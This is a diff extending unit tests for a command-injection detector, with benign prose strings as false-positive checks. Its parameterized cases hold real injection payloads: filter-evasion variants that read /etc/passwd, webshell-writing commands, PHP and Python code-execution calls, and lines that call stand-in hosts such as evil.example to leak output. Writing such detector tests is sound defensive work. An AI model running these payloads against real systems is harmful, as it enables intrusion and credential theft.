@@ -47,6 +47,35 @@ class CmdiDetectorTest {
 
   @ParameterizedTest
   @ValueSource(strings = {
+    ";touch /tmp/pwned", "x && mv shell.txt shell.php", "x|tee /var/www/html/s.php", "x;cut -d: -f1 /etc/group",
+    "x;cp /srv/a /tmp/b", "x;mkdir /tmp/x", "x|xargs -n1", "x;vim -c ':!id'", "x;gdb -nx -ex '!id'",
+    ";awk 'BEGIN{print 1}'", "x|dig attacker.example", "x;whois evil.example", "x;last -n 5", "x|top -b",
+    "x;lsmod", "x;tar -czf /tmp/w.tgz /var/www", "x;echo hi > /tmp/x;touch ./y"
+  })
+  void commandsOfEveryKindAreKnownAfterASeparator(String value) {
+    assertRule("cmdi.separator-command", value);
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {
+    "Let the cat out of the bag; touch base with the team tomorrow.", "We met last week; last time was better.",
+    "Dig in | the food is great", "first|last", "bottom|top", "roles=admin|users", "fast|free", "golf & tee -time",
+    "Please cp me on the thread; thanks", "Date format: dd/mm/yyyy; time zone UTC", "hello; time he came",
+    "I went to the store; cut the price in half", "rock & roll; top 10 hits", "the tar pit | dig site",
+    "x; touch up the photo", "Who did it? | who knows", "Ticket 4411; the file C:\\Users\\anna\\report.docx is lost"
+  })
+  void englishWordsThatNameCommandsPassInProse(String value) {
+    assertNull(detect(value), () -> "flagged: " + value);
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {"`top`", "$(last)", "x`who`"})
+  void aSessionListerAloneIsACommandOnlyInASubstitution(String value) {
+    assertRule("cmdi.substitution", value);
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {
     "`id`", "$(whoami)", "x$(id)y", "name=`uname -a`", "$(`cat /etc/passwd`)", "`sleep 5`", "x <(id)",
     "ping -c 1 `whoami`.evil.example", "$(curl http://evil.example)", ";`echo id`"
   })
@@ -80,7 +109,9 @@ class CmdiDetectorTest {
     ";w'h'o'a'm'i", ";wh\\oami", ";who$@ami", "|w\"h\"oami", "& w^h^o^a^m^i", ";c\\at /etc/passwd",
     ";cat${IFS}/etc/passwd", ";cat$IFS$9/etc/passwd", "{cat,/etc/passwd}", ";/???/??t /???/p??s??",
     ";$'\\x63\\x61\\x74' /etc/passwd", "w'h'o'a'm'i", "wh'oami", "w\"hoami", "''whoa'mi",
-    ";cat$u /etc$u/passwd", ";c${u}at /etc/passwd", "|whoami$x"
+    ";cat$u /etc$u/passwd", ";c${u}at /etc/passwd", "|whoami$x", "x;c$!at /etc/passwd", "x;c$?at /etc/passwd",
+    "x;who$$ami", "x;/bin/ca? /etc/passwd", "x;/usr/bin/wh?ami", "a=c;b=at;$a$b /etc/passwd",
+    "c1=c;c2=at;$c1$c2 /etc/passwd", "ti''me curl example.com", ";$0 -c id", "x;$0 -c 'cat /etc/passwd'"
   })
   void quoteSplittingAndBlankEvasionsAreDetected(String value) {
     assertRule("cmdi.evasion", value);
@@ -92,7 +123,7 @@ class CmdiDetectorTest {
     "passthru($_REQUEST['x'])", "eval($_POST['x'])", "x;phpinfo();", ":phpversion();", "{${system('id')}}",
     "${@print(md5(1))}", ";{$_GET[\"cmd\"]}", "os.system('id')", "subprocess.check_output(['ls'])",
     "__import__('os')", "require('child_process')", "Runtime.getRuntime().exec(cmd)", "IO.popen('id')",
-    "eval(base64_decode('aWQ='))", "SYSTEM('ls')"
+    "eval(base64_decode('aWQ='))", "SYSTEM('ls')", "%x(id)", "out = %x(cat /etc/passwd)"
   })
   void codeExecutionCallsAreDetected(String value) {
     assertRule("cmdi.code-exec", value);
@@ -151,8 +182,14 @@ class CmdiDetectorTest {
   }
 
   @ParameterizedTest
+  @ValueSource(strings = {";cat ${HOME:0:1}etc${HOME:0:1}passwd", "x|ls ${PWD:0:1}"})
+  void aSlashCutOutOfAVariableIsAPath(String value) {
+    assertNotNull(detect(value), () -> "not detected: " + value);
+  }
+
+  @ParameterizedTest
   @ValueSource(strings = {
-    "$5", "$5.00 & free shipping", "C# & F#", "a | b", "rock & roll", "Q&A", "AT&T", "Terms & Conditions; see page 3",
+    "$5", "$5.00 & free shipping", "Total: 100%x(2) discount", "price $0 - free", "see ${HOME:0:1} in the docs", "C# & F#", "a | b", "rock & roll", "Q&A", "AT&T", "Terms & Conditions; see page 3",
     "Don't forget the semicolon; it matters.", "Sleep 8 hours; eat well", "I need to sleep; talk tomorrow",
     "Please type your name; type carefully", "The cat sat; the dog ran", "Cats & dogs; ID card needed",
     "99.9% uptime; uptime matters", "skills: java; python; go", "Press stop; halt", "echo chamber; echo effect",
